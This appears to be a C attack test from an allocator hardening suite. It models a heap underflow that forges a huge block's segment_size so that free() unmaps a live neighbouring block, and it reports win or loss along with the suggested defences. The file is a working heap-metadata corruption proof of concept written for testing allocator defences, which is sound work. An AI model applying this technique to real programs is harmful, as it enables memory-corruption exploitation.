/* overflow_aligned_huge_underflow: backward overflow from an over-aligned
 * huge block through the writable space in front of it into its own segment
 * header, so that free() unmaps a live neighbour.
 *
 * Bug modelled: an underflow (write before the start) of an
 * aligned_alloc(4 MiB, 4 MiB) block, running backwards over 4 MiB. Such a
 * block starts at S + 4 MiB; [S + info_size, S + 4 MiB) is mapped read-write
 * and unused, the header (segment_size at S + 8) is below it.
 *
 * Steps:
 *  1. Allocate B = aligned_alloc(4 MiB, 4 MiB) and a huge block C of one
 *     segment until C's segment starts right where B's mapping ends.
 *  2. Walk backwards from B - 1 to S + 8 rewriting every byte with the value
 *     it holds, except segment_size, which gets + 4 MiB (covering C).
 *  3. free(B): the segment is unmapped with the forged size.
 * WIN: C, still allocated, is no longer mapped (msync reports ENOMEM).
 * Expected: the secure build's guard page in front of page 0 stops the walk
 * (SIGSEGV); the default build has no guard. Defence for both: keep the
 * front space PROT_NONE (or unmapped), and do not trust segment_size from a
 * writable header when unmapping (keep it in the segment map / out of line). */
/* ---- harness (every attack file carries its own copy) ------------------- */
#define _GNU_SOURCE
#include <malloc.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MIB ((uintptr_t)1 << 20)
#define SEG ((uintptr_t)4 << 20) /* hardheap segment size and alignment */

static void say(const char* prefix, const char* fmt, va_list ap) {
  char buf[600];
  int n = snprintf(buf, sizeof buf, "%s", prefix);
  int m = vsnprintf(buf + n, sizeof buf - (size_t)n - 1, fmt, ap);
  if (m < 0) m = 0;
  n += m;
  if (n > (int)sizeof buf - 2) n = (int)sizeof buf - 2;
  buf[n++] = '\n';
  if (write(1, buf, (size_t)n) < 0) _exit(5);
}
__attribute__((unused)) static void note(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("note: ", fmt, ap);
  va_end(ap);
}
__attribute__((unused)) static _Noreturn void win(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK WIN: ", fmt, ap);
  va_end(ap);
  _exit(0);
}
__attribute__((unused)) static _Noreturn void lost(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK LOST: ", fmt, ap);
  va_end(ap);
  _exit(3);
}
static void on_alarm(int sig) {
  (void)sig;
  static const char msg[] = "ATTACK HANG: the allocator did not return within the time limit\n";
  if (write(1, msg, sizeof msg - 1) < 0) _exit(5);
  _exit(4);
}
static void start(unsigned seconds) {
  signal(SIGALRM, on_alarm);
  alarm(seconds);
}
/* Pointers go through a volatile slot so the compiler cannot see the
 * use-after-free or the bad free (the bug being modelled). */
static void* volatile launder_slot;
__attribute__((unused)) static void* hide(void* p) {
  launder_slot = p;
  return launder_slot;
}
__attribute__((unused)) static uintptr_t peek(const void* p) { return *(const volatile uintptr_t*)p; }
__attribute__((unused)) static void poke(void* p, uintptr_t v) { *(volatile uintptr_t*)p = v; }
/* ------------------------------------------------------------------------- */
#include <sys/mman.h>

int main(void) {
  start(10);
  char* probe = malloc(3 * MIB);
  size_t info = (uintptr_t)probe & (SEG - 1);
  free(hide(probe));

  unsigned char* b = NULL;
  char* c = NULL;
  for (int i = 0; i < 16 && c == NULL; i++) {
    unsigned char* bi = hide(aligned_alloc(SEG, SEG));
    char* ci = hide(malloc(SEG - info));
    if (bi == NULL || ci == NULL) break;
    if (((uintptr_t)ci & ~(SEG - 1)) == (uintptr_t)bi + malloc_usable_size(bi)) {
      b = bi;
      c = ci;
    }
  }
  if (c == NULL) lost("no huge block was mapped right after an aligned huge block");
  memset(c, 'C', 4096);
  uintptr_t s = (uintptr_t)b - SEG; /* B's segment header */
  note("aligned block %p, its header %p, live neighbour %p", (void*)b, (void*)s, (void*)c);

  size_t forged = malloc_usable_size(b) + SEG + SEG; /* B's mapping plus C's segment */
  unsigned char fb[8];
  memcpy(fb, &forged, 8);
  for (unsigned char* q = b - 1; q >= (unsigned char*)s + 8; q--) {
    size_t off = (size_t)(q - (unsigned char*)s);
    *(volatile unsigned char*)q = off < 16 ? fb[off - 8] : *(volatile unsigned char*)q;
  }
  void* freed = b;
  free(hide(b));
  if (msync(c, 4096, MS_ASYNC) != 0) win("free(%p) unmapped the live huge block %p", freed, (void*)c);
  lost("the neighbour %p is still mapped", (void*)c);
}
